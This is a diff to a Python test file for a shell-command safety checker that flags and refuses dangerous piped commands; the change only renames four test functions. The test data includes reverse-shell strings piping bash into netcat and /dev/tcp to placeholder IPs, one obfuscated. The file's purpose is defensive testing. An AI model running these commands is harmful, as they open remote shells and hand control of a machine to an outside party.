@@ -48,7 +48,7 @@ WRAPPED = {
         (": | xargs git add --all", "git-add-blind"),
     ],
 )
-def test_a_pipe_is_found_in_a_text_that_is_put_together_first(command: str, rule: str, wrapper: str) -> None:
+def test_dangerous_pipe_is_found_in_text_that_is_assembled_first(command: str, rule: str, wrapper: str) -> None:
     found = verdict(wrapper.replace("@@", quote(command)).replace("$text", command))
     assert found.decision is Decision.REFUSE
     assert rule in [each.rule for each in found.findings]
@@ -73,7 +73,7 @@ def test_a_pipe_is_found_in_a_text_that_is_put_together_first(command: str, rule
         "bash -c 'bash -i' | sudo nc 1.2.3.4 99",
     ],
 )
-def test_whatever_runs_in_a_command_has_its_pipes(command: str) -> None:
+def test_dangerous_pipe_is_found_through_compound_commands(command: str) -> None:
     assert "netcat-shell" in [each.rule for each in verdict(command).findings]
 
 
@@ -106,7 +106,7 @@ def test_commands_without_a_pipe_between_them_are_not_joined(command: str) -> No
         ("f() { nc 1.2.3.4 99; }; bash -i | f", "nc 1.2.3.4 99; }; bash -i"),
     ],
 )
-def test_a_finding_shows_both_ends_of_the_pipe(command: str, words: str) -> None:
+def test_finding_shows_both_ends_of_the_pipe(command: str, words: str) -> None:
     found = next(each for each in check(command, cwd=PROJECT).findings if each.rule == "netcat-shell")
     assert (found.words, command[found.start : found.end].strip()) == (words, words)
 
@@ -124,5 +124,5 @@ def test_a_finding_shows_both_ends_of_the_pipe(command: str, words: str) -> None
         "d=dev; bash -i >& /$d/tcp/10.0.0.1/4444 0>&1",
     ],
 )
-def test_what_hid_behind_a_pipe_is_refused(command: str) -> None:
+def test_command_hidden_behind_a_pipe_is_refused(command: str) -> None:
     assert verdict(command).decision is Decision.REFUSE
